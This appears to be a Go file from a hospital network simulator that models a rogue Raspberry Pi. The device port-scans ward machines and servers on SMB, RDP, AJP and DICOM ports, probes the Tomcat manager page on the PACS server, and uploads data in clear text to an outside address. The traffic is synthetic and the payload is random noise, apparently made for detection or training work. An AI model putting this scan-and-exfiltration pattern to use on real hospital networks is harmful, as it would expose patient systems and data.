package sim

import (
	"net/netip"
	"time"
)

// The stranger is a small computer that somebody plugged into a free socket of
// the first ward. It asks many machines which ports are open, and sends what it
// finds to the internet, unencrypted: what an incident looks like at its start.
var strangerRow = plan{key: "stranger", kind: "", hostname: "raspberrypi", oui: [3]byte{0xb8, 0x27, 0xeb}, os: "Linux", tier: "T3", boot: bootLinux}

// strangerPorts are those it tries: file sharing, remote desktop, AJP, DICOM.
var strangerPorts = []uint16{445, 3389, 8009, dicomPort}

// outsideAddr is where it sends what it found.
const outsideAddr = "93.184.216.34"

// startStranger brings it onto the network.
func (h *Hospital) startStranger() {
	w := h.wards[0]
	d := h.add(&strangerRow, w, w.vlan, w.at(230))
	d.TTL = 64
	outside := &Host{IP: netip.MustParseAddr(outsideAddr), VLAN: farVLAN, TTL: 49, row: row("internet"), ward: &h.shared}
	outside.Device = Device{Name: "internet-2", Internet: true}
	h.boot(d, func(at time.Duration) {
		h.scan(at+time.Second, d)
		h.every(at+3*time.Second, h.around(4*time.Second), func(at time.Duration) { h.leak(at, d, outside) })
	})
}

// scan tries every machine of the ward and the servers, port by port.
func (h *Hospital) scan(at time.Duration, d *Host) {
	for _, other := range h.hosts {
		if other == d || other.Internet || other.ward != d.ward && other.VLAN != serverVLAN {
			continue
		}
		for _, port := range strangerPorts {
			h.refused(at, d, other, port)
			at += 15 * time.Millisecond
		}
	}
	pacs := h.one(d.ward, "pacs")
	h.plan(at, func(at time.Duration) {
		s := h.dial(at, "http", d, pacs, 8080)
		s.send(httpRequest("GET", "/manager/status", "vuepacs01."+domain+":8080", "curl/7.88.1", "Accept: */*", ""))
		s.reply(httpResponse("401 Unauthorized", "Apache-Coyote/1.1", "text/html", "denied")).close()
	})
}

// leak is one upload in clear text.
func (h *Hospital) leak(at time.Duration, d, outside *Host) {
	s := h.dial(at, "http", d, outside, 80)
	s.send(httpRequest("POST", "/u", outsideAddr, "curl/7.88.1", "Content-Type: application/octet-stream", string(h.noise(1200))))
	s.reply(httpResponse("200 OK", "nginx", "text/plain", "ok")).close()
}
